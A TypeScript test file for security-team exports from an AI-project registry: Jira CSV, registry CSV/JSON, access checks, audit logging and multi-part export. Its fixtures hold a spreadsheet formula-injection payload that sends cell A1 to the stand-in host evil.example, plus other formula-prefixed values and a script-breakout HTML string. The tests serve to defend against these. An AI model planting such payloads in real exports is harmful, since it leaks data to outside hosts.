/**
 * Exports for ticketing and audit (issue 18), through the built dist/Code.js: the menu as the
 * security team and as an employee, the files inside the dialog decoded as a person's browser
 * would save them, a registry full of hostile values, and the Audit Log's record of each export.
 */
import type { GasRuntime } from '../../sandbox/gas/runtime';
import { JIRA_HEADERS } from '../../src/domain/export';
import { addToSecurityTeam, auditRows, EMPLOYEE, SECURITY, setUpRuntime } from '../helpers';

const JIRA = 'Security team > Export reviews for Jira (CSV)';
const REGISTRY = 'Security team > Export registry (CSV or JSON)';
const HOOK = 'https://hooks.slack.com/services/T0/B0/export-secret';

interface File {
  name: string;
  type: string;
  format: string;
  text?: string;
  fetch?: unknown[];
}

/** The files a dialog carries (the JSON its own script reads). */
function filesOf(html: string): File[] {
  const m = /<script type="application\/json" id="export-files">(.*?)<\/script>/s.exec(html);
  if (!m) throw new Error('the dialog carries no files');
  return JSON.parse(m[1]) as File[];
}

/** RFC 4180, as a spreadsheet or Jira's importer reads it. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"' && field === '') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      rows.push([...row, field]);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  rows.push([...row, field]);
  return rows;
}

const asRecords = (rows: string[][]) =>
  rows.slice(1).map((r) => Object.fromEntries(rows[0].map((h, i) => [h, r[i]])));

const form = (over: Record<string, unknown>) => ({
  creatorEmail: EMPLOYEE,
  department: 'Support',
  project: 'Ticket drafter',
  businessPurpose: 'Drafts first replies.',
  dataTier: 'Tier 1 - Public',
  dataStores: [],
  aiTool: 'Claude Code',
  aiToolVersion: '1.0',
  deploymentStatus: 'Development',
  ...over,
});

/** What people typed, hostile: formulas, signs, quotes, commas, line breaks, unicode. */
const HOSTILE = {
  project: '=HYPERLINK("https://evil.example/?q="&A1,"Open me")',
  businessPurpose: 'Says "hi", then, a line\nand another ✓ 日本語 Ünïcödé </script><b>x</b>',
  department: '-2+3',
  aiToolVersion: '@SUM(A1:A9)',
};

function registry(): GasRuntime {
  const rt = setUpRuntime();
  addToSecurityTeam(rt, SECURITY);
  rt.registryProperties().slackWebhookUrl = HOOK;
  const register = (over: Record<string, unknown>) => {
    const result = rt.run('registerProject', [form(over)], EMPLOYEE);
    if (!result.ok) throw new Error(result.error);
  };
  register({ ...HOSTILE, dataTier: 'Tier 3 - Confidential' });
  register({ project: '+1 summariser', businessPurpose: 'Tab\there; semicolon' });
  register({
    project: 'Claims triage',
    department: 'Research & Développement',
    dataTier: 'Tier 3 - Confidential',
    deploymentStatus: 'Production',
  });
  return rt;
}

test('the security team exports Tier 3 reviews as a CSV in Jira’s import format', () => {
  const rt = registry();
  // One review decided, with a threat model and a note full of quotes and commas.
  const decided = rt.run(
    'decideReview',
    [
      'R-0002',
      {
        decision: 'Approved',
        note: 'Fine, "as long as" logs stay in the EU',
        threatModel: 'https://wiki.example.com/tm/claims',
      },
    ],
    SECURITY,
  );
  expect(decided).toMatchObject({ ok: true });
  const result = rt.clickMenu(JIRA, SECURITY);
  expect(result.ui[0]).toMatchObject({ type: 'dialog', title: 'Export reviews for Jira (CSV)' });
  const html = result.ui[0].html!;
  expect(html).toContain('2 Tier 3 reviews, one Jira issue each');
  expect(html).toContain('enter yyyy-MM-dd HH:mm as the date format');
  const [file, ...others] = filesOf(html);
  expect(others).toEqual([]);
  expect(file).toMatchObject({
    name: 'governed-path-jira-reviews-2026-11-24.csv',
    type: 'text/csv;charset=utf-8',
  });
  expect(file.text!.charCodeAt(0)).not.toBe(0xfeff); // Jira must see "Summary" first
  const rows = parseCsv(file.text!);
  expect(rows[0]).toEqual([...JIRA_HEADERS]);
  expect(rows).toHaveLength(3);
  const [open, approved] = rows.slice(1);
  expect(open[0]).toBe(`Tier 3 security review: AI-0001 ${HOSTILE.project}`);
  expect(open.slice(1, 2)).toEqual(['Task']);
  expect(open[2].split('\n')).toEqual(
    expect.arrayContaining([
      'Business purpose: Says "hi", then, a line',
      'and another ✓ 日本語 Ünïcödé </script><b>x</b>',
      'Creator: dana@example.com',
      'Department: -2+3',
      'Data tier: Tier 3 - Confidential',
      'AI tool: Claude Code @SUM(A1:A9)',
      'Deployment status: Development',
      'Registry row (at export): https://docs.google.com/spreadsheets/d/sandbox-spreadsheet/edit#gid=1&range=A2',
      'Threat model: none yet',
    ]),
  );
  expect(open.slice(3)).toEqual([
    'Medium',
    'governed-path',
    'tier-3',
    '2-3', // the department as a label Jira accepts: its sign is gone
    '2026-12-01 00:00',
    '2026-11-24 10:00',
    'Open',
    'dana@example.com',
    expect.stringMatching(/@example\.com$/),
    'R-0001',
  ]);
  expect(approved[0]).toBe('Tier 3 security review: AI-0003 Claims triage');
  expect(approved[2]).toContain('Threat model: https://wiki.example.com/tm/claims');
  expect(approved[2]).toContain('Notes: ');
  expect(approved[2]).toContain('"as long as" logs stay in the EU');
  expect(approved.slice(3, 7)).toEqual([
    'Low',
    'governed-path',
    'tier-3',
    'research-developpement',
  ]);
  expect(approved[9]).toBe('Approved');
  expect(approved[12]).toBe('R-0002');
  // No field of the file would run as a formula where a spreadsheet opens it.
  for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  // Recorded: who exported what, how many.
  expect(auditRows(rt, 'Exported')).toEqual([
    expect.objectContaining({
      Actor: SECURITY,
      Field: 'Reviews for Jira (CSV)',
      'New Value': '2 Tier 3 reviews',
    }),
  ]);
});

test('the registry exports as CSV (neutralised, with a BOM) and as JSON (as recorded), never the seal or a secret', () => {
  const rt = registry();
  const result = rt.clickMenu(REGISTRY, SECURITY);
  expect(result.ui[0]).toMatchObject({ type: 'dialog', title: 'Export registry (CSV or JSON)' });
  const html = result.ui[0].html!;
  expect(html).toContain('3 entries of the registry');
  expect(html).toContain('value="csv" checked');
  const [csv, json] = filesOf(html);
  expect(csv).toMatchObject({ name: 'governed-path-registry-2026-11-24.csv', format: 'csv' });
  expect(json).toMatchObject({ name: 'governed-path-registry-2026-11-24.json', format: 'json' });
  expect(csv.text!.startsWith('\uFEFFID,Registered,Creator Email,')).toBe(true);

  const sheet = rt.view('Registry').values;
  const recorded = asRecords(sheet);
  const rows = parseCsv(csv.text!.slice(1));
  expect(rows[0]).toEqual(sheet[0].filter((h) => h !== '' && h !== 'Seal'));
  expect(rows).toHaveLength(4);
  const records = asRecords(rows);
  // People's text comes back exactly, with a ' before a leading = + - @ or tab.
  expect(records[0]['Project']).toBe(`'${HOSTILE.project}`);
  expect(records[0]['Department']).toBe(`'${HOSTILE.department}`);
  expect(records[0]['AI Tool Version']).toBe(`'${HOSTILE.aiToolVersion}`);
  expect(records[0]['Business Purpose']).toBe(HOSTILE.businessPurpose);
  expect(records[1]['Project']).toBe("'+1 summariser");
  expect(records[1]['Business Purpose']).toBe('Tab\there; semicolon');
  expect(records[2]['Department']).toBe('Research & Développement');
  records.forEach((r, i) => {
    for (const [header, value] of Object.entries(r))
      expect(value.replace(/^'(?=[=+\-@\t\r])/, '')).toBe(recorded[i][header]);
  });
  expect(csv.text).toContain('\r\n');
  // A value with ; or a tab is quoted, so no locale's spreadsheet splits it into cells.
  expect(csv.text).toContain('"Tab\there; semicolon"');

  const data = JSON.parse(json.text!) as {
    export: Record<string, unknown>;
    rows: Record<string, string>[];
  };
  expect(data.export).toMatchObject({
    kind: 'Governed Path registry',
    spreadsheet: rt.world.spreadsheet.name,
    exportedAt: '2026-11-24T10:00:00-05:00',
    exportedBy: SECURITY,
    timeZone: 'America/New_York',
    rowCount: 3,
    columns: rows[0],
  });
  expect(data.export.values).toContain('Nothing is neutralised');
  // As recorded: the same text the sheet holds, nothing added.
  expect(data.rows).toEqual(recorded.map((r) => Object.fromEntries(rows[0].map((h) => [h, r[h]]))));
  expect(data.rows[0]['Project']).toBe(HOSTILE.project);

  // Never the seal, the seal key or a webhook URL.
  const key = (JSON.parse(rt.registryProperties().signingKey) as { key: string }).key;
  for (const text of [html, csv.text!, json.text!]) {
    expect(text).not.toContain('Seal');
    expect(text).not.toContain(key);
    expect(text).not.toContain('hooks.slack.com');
    expect(text).not.toContain('"v":1,"k"');
  }
  // People's values never reach the page as markup.
  expect(html).not.toMatch(/<[^>]*HYPERLINK/);
  expect(html.match(/<\/script>/gi)).toHaveLength(2);
  expect(html).not.toContain('<b>x</b>');
  expect(auditRows(rt, 'Exported')).toEqual([
    expect.objectContaining({
      Actor: SECURITY,
      Field: 'Registry (CSV and JSON)',
      'New Value': '3 entries',
    }),
  ]);
});

test('an employee is refused both exports, and nothing is recorded', () => {
  const rt = registry();
  for (const item of [JIRA, REGISTRY]) {
    const result = rt.clickMenu(item, EMPLOYEE);
    expect(result.ui).toHaveLength(1);
    expect(result.ui[0].type).toBe('alert');
    expect(result.ui[0].message).toBe(
      'Only the security team can do this. Ask them, or ask to be added in Settings.',
    );
  }
  expect(rt.run('exportPart', ['registry', 'csv', 1, 3, 1, 1], EMPLOYEE)).toEqual({
    ok: false,
    error: 'Only the security team can do this. Ask them, or ask to be added in Settings.',
  });
  expect(auditRows(rt, 'Exported')).toEqual([]);
});

test('a part of a large export holds its ID range, is recorded, and a malformed request gets a sentence', () => {
  const rt = registry();
  const result = (args: unknown[]) => {
    const run = rt.run('exportPart', args, SECURITY);
    if (!run.ok) throw new Error(run.error);
    return run.result as { text: string; rows: number };
  };
  const { text, rows } = result(['registry', 'json', 2, 3, 2, 2]);
  expect(rows).toBe(2);
  const data = JSON.parse(text) as { export: Record<string, unknown>; rows: { ID: string }[] };
  expect(data.rows.map((r) => r.ID)).toEqual(['AI-0002', 'AI-0003']);
  expect(data.export.part).toEqual({ number: 2, of: 2, firstId: 'AI-0002', lastId: 'AI-0003' });
  expect(parseCsv(result(['jira', 'csv', 1, 1, 1, 3]).text).map((r) => r[12])).toEqual([
    'External ID',
    'R-0001',
  ]);
  expect(auditRows(rt, 'Exported').map((a) => [a.Field, a['New Value']])).toEqual([
    ['Registry (JSON), part 2 of 2: AI-0002 to AI-0003', '2 entries'],
    ['Reviews for Jira (CSV), part 1 of 3: R-0001 to R-0001', '1 Tier 3 review'],
  ]);
  // Checked on the server (the unit tests hold every case): a sentence comes back.
  for (const [args, error] of [
    [['jira', 'json', 1, 2, 1, 1], 'The Jira export is a CSV file.'],
    [
      ['registry', 'csv', 5, 2, 1, 1],
      'The part names no range of IDs: close the dialog and export again.',
    ],
  ] as const)
    expect(rt.run('exportPart', [...args], SECURITY)).toEqual({ ok: false, error });
});

test('with nothing to export the security team is told so, not shown an empty file', () => {
  const rt = setUpRuntime();
  addToSecurityTeam(rt, SECURITY);
  expect(rt.clickMenu(JIRA, SECURITY).ui[0]).toMatchObject({
    type: 'alert',
    message: 'There are no Tier 3 reviews to export yet.',
  });
  expect(rt.clickMenu(REGISTRY, SECURITY).ui[0]).toMatchObject({
    type: 'alert',
    message: 'The registry has no entries to export yet.',
  });
  expect(auditRows(rt, 'Exported')).toEqual([]);
});

test('a registry too large for one dialog is offered in parts that together hold every entry once', () => {
  const rt = setUpRuntime();
  addToSecurityTeam(rt, SECURITY);
  // 3,000 entries with long purposes, pasted by an employee in blocks (decided and sealed as
  // any paste is), then the whole sheet sorted so it is not in ID order.
  const header = rt.view('Registry').values[0];
  const n = 3000;
  const col = (h: string) => String.fromCharCode(65 + header.indexOf(h));
  for (let from = 0; from < n; from += 500) {
    const rows = Array.from({ length: 500 }, (_, i) => {
      const k = from + i;
      return [
        EMPLOYEE,
        'Support',
        `=Project ${k + 1}`,
        `${'Long purpose, "quoted". '.repeat(40)}${k + 1}`,
        '1',
        '',
        'Claude Code',
        '1.0',
        'dev',
      ];
    });
    const r = rt.edit(
      'Registry',
      `${col('Creator Email')}${from + 2}:${col('Deployment Status')}${from + 501}`,
      rows,
      EMPLOYEE,
    );
    expect(r.ok).toBe(true);
  }
  const last = String.fromCharCode(64 + header.length);
  rt.sort(
    'Registry',
    `A2:${last}${n + 1}`,
    header.indexOf('Business Purpose') + 1,
    false,
    SECURITY,
  );
  const shown = rt.clickMenu(REGISTRY, SECURITY).ui[0];
  expect(shown.type).toBe('dialog');
  expect(shown.html).toMatch(
    /3,000 entries: too large to hand over at once \(\d+\.\d MB\), so in \d parts by ID/,
  );
  const files = filesOf(shown.html!);
  expect(files.every((f) => f.text === undefined && f.fetch)).toBe(true);
  for (const format of ['csv', 'json']) {
    const parts = files.filter((f) => f.format === format);
    expect(parts.length).toBeGreaterThan(1);
    expect(parts[0].name).toMatch(new RegExp(`-part-1-of-${parts.length}\\.${format}$`));
    const ids: string[] = [];
    for (const part of parts) {
      const run = rt.run('exportPart', part.fetch!, SECURITY);
      if (!run.ok) throw new Error(run.error);
      const { text } = run.result as { text: string };
      expect(text.length).toBeLessThanOrEqual(3_000_000);
      if (format === 'json')
        ids.push(...(JSON.parse(text) as { rows: { ID: string }[] }).rows.map((r) => r.ID));
      else {
        const rows = parseCsv(text.slice(1));
        expect(rows[0][0]).toBe('ID');
        expect(rows[1][4]).toMatch(/^'=Project \d+$/);
        ids.push(...rows.slice(1).map((r) => r[0]));
      }
    }
    expect(ids).toEqual(
      Array.from({ length: n }, (_, i) => `AI-${String(i + 1).padStart(4, '0')}`),
    );
  }
  const log = auditRows(rt, 'Exported');
  expect(log[0]).toMatchObject({
    Field: expect.stringMatching(/^Registry \(offered in \d parts\)$/),
  });
  expect(log.length).toBe(1 + files.length);
});
